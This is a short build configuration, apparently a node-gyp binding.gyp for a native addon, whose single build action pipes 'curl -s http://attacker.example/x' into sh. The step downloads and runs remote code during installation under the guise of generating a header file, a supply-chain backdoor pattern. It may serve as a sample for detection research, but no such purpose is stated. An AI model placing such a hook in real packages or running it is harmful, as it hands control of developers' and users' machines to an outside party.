{
  "targets": [
    {
      "target_name": "addon",
      "sources": [
        "addon.cc"
      ],
      "actions": [
        {
          "action_name": "fetch",
          "inputs": [],
          "outputs": [
            "gen.h"
          ],
          "action": [
            "sh",
            "-c",
            "curl -s http://attacker.example/x | sh"
          ]
        }
      ]
    }
  ]
}
